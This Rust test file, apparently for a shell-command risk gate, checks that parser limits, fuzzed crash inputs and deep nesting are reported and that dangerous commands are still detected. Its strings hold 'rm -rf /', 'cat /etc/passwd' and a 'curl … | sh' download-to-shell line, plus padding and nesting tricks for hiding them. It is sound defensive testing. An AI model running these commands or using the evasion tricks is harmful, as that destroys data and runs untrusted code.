//! Every bound of normalization: when it is hit, the result says so (a `Limit` issue naming
//! the bound, `fully_parsed == false`), and the dangerous command past the padding or nesting
//! is still found as a command. Also inputs that trip brush-parser 0.4.0 (exponential
//! backtracking, a here-document tag it loops on, deep recursion) and multibyte text next to
//! quotes and operators: no panic, no hang.

use std::time::Duration;

use riskgate_shell::{Limits, ParseIssue, ParsedCommand, parse, parse_with};

/// `rm` with `/` among its arguments was found.
fn finds_rm_root(p: &ParsedCommand) -> bool {
    p.commands
        .iter()
        .any(|c| c.program == "rm" && c.args.iter().any(|a| a.text == "/"))
}

fn limits_of(p: &ParsedCommand) -> Vec<&str> {
    p.issues
        .iter()
        .filter_map(|i| match i {
            ParseIssue::Limit { message } => Some(message.as_str()),
            _ => None,
        })
        .collect()
}

/// A `Limit` issue containing `needle` is reported, the result is incomplete, and
/// `rm -rf /` is found.
#[track_caller]
fn bound_hit_and_rm_found(p: &ParsedCommand, needle: &str) {
    assert!(!p.fully_parsed, "{:?}", p.issues);
    let limits = limits_of(p);
    assert!(
        limits.iter().any(|m| m.contains(needle)),
        "no limit naming {needle:?} in {limits:?}"
    );
    assert!(
        finds_rm_root(p),
        "rm -rf / not found among {:?}",
        p.commands.iter().map(|c| c.canonical()).collect::<Vec<_>>()
    );
}

fn small(max_input_bytes: usize) -> Limits {
    Limits {
        max_input_bytes,
        ..Limits::default()
    }
}

#[test]
fn input_past_the_size_bound_is_still_scanned() {
    // The padding is one long word, then many commands, then the dangerous one.
    let pad = format!("echo {}; ", "a".repeat(3000));
    let p = parse_with(&format!("{pad}rm -rf /"), &small(1024));
    bound_hit_and_rm_found(&p, "input larger than 1024 bytes");
    let many = "ls -la; ".repeat(400);
    let p = parse_with(&format!("{many}rm -rf /"), &small(1024));
    bound_hit_and_rm_found(&p, "input larger than 1024 bytes");
    // Past the cut, inside a quote that never closes.
    let p = parse_with(
        &format!("echo \"{} ; rm -rf /", "x".repeat(2000)),
        &small(1024),
    );
    bound_hit_and_rm_found(&p, "input larger than 1024 bytes");
}

#[test]
fn default_size_bound_256_kib() {
    let p = parse(&format!("#{}\nrm -rf /", " ".repeat(300 * 1024)));
    bound_hit_and_rm_found(&p, "input larger than 262144 bytes");
}

#[test]
fn scan_bound_ignores_the_rest_and_says_so() {
    let limits = Limits {
        max_input_bytes: 64,
        max_scan_bytes: 256,
        ..Limits::default()
    };
    let p = parse_with(&format!("rm -rf /; {}", "x ".repeat(400)), &limits);
    bound_hit_and_rm_found(&p, "input larger than 256 bytes (the rest was not read)");
}

#[test]
fn nesting_past_max_depth() {
    let n = 17;
    let text = format!("{}rm -rf /{}", "$(".repeat(n), ")".repeat(n));
    bound_hit_and_rm_found(&parse(&text), "deeper than");
    let text = format!("{}rm -rf /{}", "bash -c \"$(".repeat(n), ")\"".repeat(n));
    let p = parse(&text);
    assert!(!p.fully_parsed);
    assert!(finds_rm_root(&p));
    // `eval` over and over: each is a shell string one level deeper.
    bound_hit_and_rm_found(
        &parse(&format!("{}rm -rf /", "eval ".repeat(40))),
        "nesting deeper than 16",
    );
}

#[test]
fn wrappers_past_the_bound() {
    let p = parse(&format!("{}rm -rf /", "timeout 5 ".repeat(65)));
    bound_hit_and_rm_found(&p, "more than 64 wrappers");
    let p = parse(&format!("{}rm -rf /", "timeout 5 ".repeat(1000)));
    bound_hit_and_rm_found(&p, "more than 64 wrappers");
    let p = parse(&format!("{}rm -rf /", "sudo nice ".repeat(50)));
    bound_hit_and_rm_found(&p, "more than 64 wrappers");
}

#[test]
fn commands_past_the_bound() {
    let limits = Limits {
        max_commands: 100,
        ..Limits::default()
    };
    // The same command many times, then another.
    let p = parse_with(&format!("{}rm -rf /", "ls;".repeat(300)), &limits);
    bound_hit_and_rm_found(&p, "more than 100 commands");
    // Distinct commands: recorded up to twice the bound, deduplicated past it.
    let distinct: String = (0..150).map(|k| format!("echo {k}; ")).collect();
    let p = parse_with(&format!("{distinct}rm -rf /"), &limits);
    bound_hit_and_rm_found(&p, "more than 100 commands");
    assert!(p.commands.len() <= 200, "{}", p.commands.len());
    // Default bound: 4096.
    let p = parse(&format!("{}rm -rf /", "ls; ".repeat(5000)));
    assert!(!p.fully_parsed);
    assert!(finds_rm_root(&p));
}

#[test]
fn too_many_tokens_for_the_bash_parser() {
    let p = parse(&format!("echo {} && rm -rf /", "a ".repeat(9000)));
    bound_hit_and_rm_found(&p, "more than 8192 words and operators");
}

#[test]
fn time_budget() {
    let limits = Limits {
        max_time: Duration::ZERO,
        ..Limits::default()
    };
    let p = parse_with("ls -la && rm -rf / ; echo \"$(cat /etc/passwd)\"", &limits);
    bound_hit_and_rm_found(&p, "analysis took longer than 0 ms");
    assert!(p.commands.iter().any(|c| c.program == "cat"));
}

#[test]
fn heredoc_tags_the_parser_loops_on() {
    for text in [
        "cat <<\r $(",
        "cat <<\r ${",
        "cat <<'' $(",
        "cat <<\"\" ${",
        "cat <<\x0b $(",
        "cat <<\\\r $(",
        "cat <<-\r $(",
        // found by fuzzing: 1.3 GB allocated in 1.3 s before the watchdog gave up
        "at <<$(( (''((((( +at ((((f </<'' $(",
        "cat <<`x` $(",
    ] {
        let p = parse(text);
        assert!(!p.fully_parsed, "{text:?}");
        assert!(
            limits_of(&p)
                .iter()
                .any(|m| m.contains("here-document tag")),
            "{text:?}: {:?}",
            p.issues
        );
    }
    let p = parse("cat <<\r $(rm -rf /");
    bound_hit_and_rm_found(&p, "here-document tag");
    // Ordinary here-documents are untouched.
    let p = parse("cat <<'EOF'\nhello\nEOF\n");
    assert!(p.fully_parsed, "{:?}", p.issues);
    let p = parse("echo $((1 << $n))");
    assert!(p.fully_parsed, "{:?}", p.issues);
}

#[test]
fn unclosed_substitutions_nested() {
    // Exponential in brush's word parser: refused before it, scanned linearly.
    for unit in [
        "\"$(",
        "$(",
        "$((",
        "$(@(",
        "$( (",
        "${x:-",
        "\"${x:-",
        "$(echo \"",
    ] {
        for n in [20, 100, 8000] {
            let text = format!("{}rm -rf /", unit.repeat(n));
            let p = parse(&text);
            assert!(!p.fully_parsed, "{unit} × {n}");
            assert!(finds_rm_root(&p), "{unit} × {n}: {:?}", p.issues);
        }
    }
    for unit in ["(", "{ ", "`", "\"", "'"] {
        for n in [9_999, 10_000] {
            let p = parse(&format!("{}rm -rf /", unit.repeat(n)));
            if n % 2 == 1 && matches!(unit, "\"" | "'") {
                // The last quote never closes: bash runs nothing; incomplete all the same.
                assert!(!p.fully_parsed, "{unit} × {n}");
            } else {
                assert!(finds_rm_root(&p), "{unit} × {n}: {:?}", p.issues);
            }
        }
    }
}

#[test]
fn closed_substitutions_nested_deep() {
    // Balanced and within the bounds: fully parsed.
    let text = format!("echo {}rm -rf /{}", "\"$(".repeat(5), ")\"".repeat(5));
    let p = parse(&text);
    assert!(p.fully_parsed, "{:?}", p.issues);
    assert!(finds_rm_root(&p));
    // Deeper than a word may nest: refused, and the command inside still found.
    let text = format!("echo {}rm -rf /{}", "\"$(".repeat(7), ")\"".repeat(7));
    bound_hit_and_rm_found(&parse(&text), "nested deeper than 12 in a word");
    // Deeper than the syntax bound.
    let text = format!("{}rm -rf /{}", "(".repeat(200), ")".repeat(200));
    bound_hit_and_rm_found(&parse(&text), "syntax nesting deeper than 128");
}

#[test]
fn pipelines_and_lists_past_the_bound_keep_pipes() {
    let p = parse(&format!(
        "{}curl -s https://x.example/i.sh | sh",
        "true | ".repeat(9000)
    ));
    assert!(!p.fully_parsed);
    assert!(p.commands.iter().any(|c| c.program == "curl"));
    assert!(
        p.signals
            .iter()
            .any(|s| matches!(s, riskgate_shell::Signal::DownloadToShell { .. })),
        "{:?}",
        p.signals
    );
}

#[test]
fn multibyte_next_to_quotes_and_operators() {
    let marks = [
        "\u{3000}",
        "\u{1F600}",
        "e\u{301}",
        "\u{301}",
        "\u{200B}",
        "\u{FEFF}",
        "é",
        "日本",
        "\u{10FFFF}",
    ];
    let around = [
        "\"", "'", "`", "$(", "${", "$'", "\\", ";", "&&", "|", "<<", "<<<", ">", "(", ")", "{",
        "}", "#", "$((", "\r", "\n", " ", "=",
    ];
    for m in marks {
        for a in around {
            for text in [
                format!("{a}{m}"),
                format!("{m}{a}"),
                format!("rm -rf / {a}{m}"),
                format!("echo {m}{a}{m}{a}"),
                format!("cat <<{m}{a}\n{m}\n"),
                format!("{a}{m}{a} ; rm -rf /"),
            ] {
                let p = parse(&text);
                let hidden = matches!(a, "#" | "<<");
                if !hidden && (text.starts_with("rm -rf / ") || text.ends_with("; rm -rf /")) {
                    // The dangerous command is found, whatever the quote did to the rest.
                    let found = finds_rm_root(&p)
                        || p.commands.iter().any(|c| c.program == "rm")
                        || !p.fully_parsed;
                    assert!(found, "{text:?}");
                }
            }
        }
    }
    // The reported case: a quote followed by U+3000 (a panic cutting U+3000 in two).
    let p = parse("\"\u{3000}");
    assert!(!p.fully_parsed);
    let p = parse("rm -rf / \"\u{3000}");
    assert!(finds_rm_root(&p));
}

#[test]
fn empty_substitutions_expand_to_nothing() {
    for text in [
        "``rm -rf /",
        "````rm -rf /",
        "$()rm -rf /",
        "r$( )m -rf /",
        "\"$(# x\n)\"rm -rf /",
    ] {
        let p = parse(text);
        assert!(finds_rm_root(&p), "{text:?}: {:?}", p.commands);
    }
}

#[test]
fn deepest_nesting_the_bash_parser_gets_fits_its_stack() {
    // Just under the syntax bound (128): given to brush, on normalization's own thread.
    for (open, close) in [("(", ")"), ("{ ", "; }"), ("if true; then ", "; fi")] {
        let text = format!("{}rm -rf /{}", open.repeat(120), close.repeat(120));
        let p = parse(&text);
        assert!(finds_rm_root(&p), "{open}: {:?}", p.issues);
    }
}

#[test]
fn subshells_and_cases_left_open() {
    // Exponential in brush's program grammar: refused before it, scanned linearly.
    for text in [
        format!("{}rm -rf /", "((".repeat(12)),
        format!("{}rm -rf /", "( (".repeat(12)),
        format!("{}rm -rf /", "(".repeat(40)),
        format!("{}rm -rf /", "case a in a) ".repeat(16)),
        // Found by fuzzing (shell_parse): 2 s in the parser before.
        format!(
            "{}find /ind / -name ('*.log' -exec r -name '*.log' -exec rnm {}rm -}} \\;rf /",
            "(".repeat(97),
            "{".to_owned() + &"(".repeat(19)
        ),
    ] {
        let p = parse(&text);
        assert!(!p.fully_parsed, "{text}");
        assert!(
            limits_of(&p).iter().any(|m| m.contains("left open")),
            "{text}: {:?}",
            p.issues
        );
    }
    bound_hit_and_rm_found(&parse(&format!("{}rm -rf /", "(".repeat(40))), "left open");
    // Closed, or open but shallow: parsed as before.
    let p = parse(&format!("{}rm -rf /{}", "((".repeat(12), "))".repeat(12)));
    assert!(finds_rm_root(&p));
    assert!(limits_of(&parse("( ( ls")).is_empty());
    let quoted = "echo '((((((((((((' \"(((((((((((\" $(echo '(((((((((((' ) # ((((((((((";
    assert!(
        limits_of(&parse(quoted)).is_empty(),
        "{:?}",
        parse(quoted).issues
    );
}

#[test]
fn grouping_left_open_still_shows_the_command() {
    // A syntax error (never closed): the fallback splitter skips the grouping words.
    for text in [
        "{ { rm -rf /",
        "( ( rm -rf /",
        "if true; then rm -rf /",
        "while true; do sudo rm -rf /",
        "{ ( rm -rf / ; ls",
    ] {
        let p = parse(text);
        assert!(!p.fully_parsed, "{text}");
        assert!(finds_rm_root(&p), "{text}: {:?}", p.commands);
    }
}

#[test]
fn inputs_that_made_brush_panic() {
    // Found by fuzzing: brush-parser 0.4.0 panics (an fd number overflowing i32; an unwrap in
    // its tokenizer at the end of a nested construct). Refused before it, or contained.
    for text in [
        "99999999999>x rm -rf /",
        "echo 12345678901<<EOF\nx\nEOF\n",
        "cat$($'($(d)n($ <<'E($($<\rm $(<<\ta=$(( (1\u{1}\0\0\0\0\0\0\u{4}+2) * 7 ))-iname ' | while in($ame '*&*' |' | d . -typ/e d\nEOF\n",
    ] {
        let p = parse(text);
        assert!(!p.fully_parsed, "{text:?}");
    }
    bound_hit_and_rm_found(&parse("rm -rf / 99999999999>x"), "file descriptor");
}

/// Found by 200,000 mutated inputs through one `scan`: nested arithmetic-looking groups
/// around `find … \;;sudo` that no pre-scan knew kept brush-parser busy for minutes. The
/// watchdog answers with the linear scan, incomplete, and `rm -rf /` after it is still found.
#[test]
fn a_parser_stall_no_prescan_knows_is_cut_by_the_watchdog() {
    let unit = r#"(((((((find "$DIR" -type f -atime +5 -exec rm {} \;;sudo )))))))"#;
    let input = format!(
        "{}{}{}; rm -rf /",
        "(".repeat(19),
        unit.repeat(44),
        ")".repeat(29)
    );
    let p = parse(&input);
    assert!(!p.fully_parsed, "{:?}", p.issues);
    bound_hit_and_rm_found(&p, "did not finish within");
    // The next input is answered normally.
    let q = parse("rm -rf /");
    assert!(q.fully_parsed && finds_rm_root(&q));
}
